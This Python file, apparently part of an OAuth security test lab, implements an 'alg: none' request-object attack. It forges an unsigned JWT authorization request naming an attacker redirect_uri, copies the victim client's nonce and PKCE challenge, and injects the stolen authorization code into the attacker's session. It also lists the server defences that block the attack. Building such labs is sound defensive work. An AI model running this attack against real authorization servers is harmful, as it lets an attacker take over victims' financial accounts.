"""unsigned-request-object: a request object with `alg: none` naming the attacker's redirect_uri.

attacks.md §3 E (A1). The attacker writes FinLens's authorization request itself as an
Unsecured JWT (RFC 7519 §6: alg none, empty signature): client_id=tpp, its own site's
redirect_uri. An AS that lets the JWT pick its algorithm takes it at its word (RFC 8725
§3.1; RFC 9101 §6.2 wants it verified). The lured victim opens
/authorize?client_id=tpp&request=…, consents on a page naming FinLens; the code lands on
the attacker's site and is injected into the attacker's own FinLens session.

A careful attacker starts that session first and copies what FinLens asked for in it (its
nonce, scope and PKCE challenge, read in its own browser) into the forged request: the ID
token then carries the nonce FinLens expects there (OIDC Core §3.1.3.7), the grant is what
FinLens asked for, and FinLens redeems the code with the verifier of that very session, so
FinLens's client-side checks and PKCE find nothing wrong.
"""

from __future__ import annotations

import json
from urllib.parse import urlencode

from attacker import fixtures
from attacker import frontchannel as fc
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.inject import code_lured_to_site, inject_code, jarm_only
from lab.authserver.clients import TPP_CLIENT_ID
from lab.jose import b64

STEAL_PATH = "/callback"   # FinLens's path: the prefix the legacy AS compares


def unsigned(claims: dict[str, str]) -> str:
    """RFC 7519 §6.1: header {"alg":"none"}, the claims, and an empty signature."""
    part = [b64.encode(json.dumps(x, separators=(",", ":")).encode())
            for x in ({"alg": "none"}, claims)]
    return f"{part[0]}.{part[1]}."


def run(ctx: AttackContext) -> None:
    fx = fixtures.ensure_running(ctx)
    redirect_uri = fx.site + STEAL_PATH
    own = fc.own_pending_flow(ctx)
    asked = own.asked()
    params = {"response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
              "scope": asked.get("scope", fc.FINLENS_SCOPE), "state": "unsigned"}
    for copied in ("nonce", "code_challenge", "code_challenge_method"):
        if asked.get(copied):
            params[copied] = asked[copied]
    ctx.step("attacker", "reads the scope, nonce and PKCE challenge FinLens put in its own "
             "pending flow's authorization request (its own browser) for the request it forges")
    if jarm_only(ctx):
        params["response_mode"] = "jwt"
    request = unsigned(params)
    url = ctx.url("as", "/authorize") + "?" + urlencode(
        {"client_id": TPP_CLIENT_ID, "request": request})
    got = code_lured_to_site(
        ctx, fx, redirect_uri, STEAL_PATH, url=url,
        built=f"writes an unsigned request object (alg none) for FinLens's client_id with "
              f"redirect_uri={redirect_uri}, FinLens's scope and its own flow's nonce, and "
              f"mails the victim a link to /authorize?client_id=tpp&request=…",
        missing="no code reached the attacker's site",
        read="reads the victim's code from its own site's log")
    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
                source="its site received", response=got.get("response"), own=own)


ATTACK = Attack(
    id="unsigned-request-object", attacker="A1", legs=("own",), victim="live",
    title="Request object with `alg: none`",
    blocked_by=("jar_required", "alg_allow_list", "par_required", "exact_redirect_uri"),
    premise="Runs the attacker site; knows FinLens's client_id and redirect URI (public); the "
            "victim follows its link and consents on a page that names FinLens.",
    goal="the attacker's FinLens account shows the victim's accounts", run=run,
    refs=("RFC 9101 §6.2", "RFC 8725 §3.1", "RFC 7519 §6", "F1P2 §5.2.2"),
    also_blocked_by={
        "pkce_required": "FinLens sends no code_challenge in this column, so the attacker's own "
                         "flow has none to copy and the forged request carries none (where "
                         "FinLens does send one, the attacker copies it: PKCE binds the code to "
                         "the session that redeems it, which is the attacker's)",
        "code_client_binding":
            "the code was issued for the attacker's redirect_uri and FinLens redeems it with "
            "its own, which RFC 6749 §4.1.3 requires to be identical",
    },
)
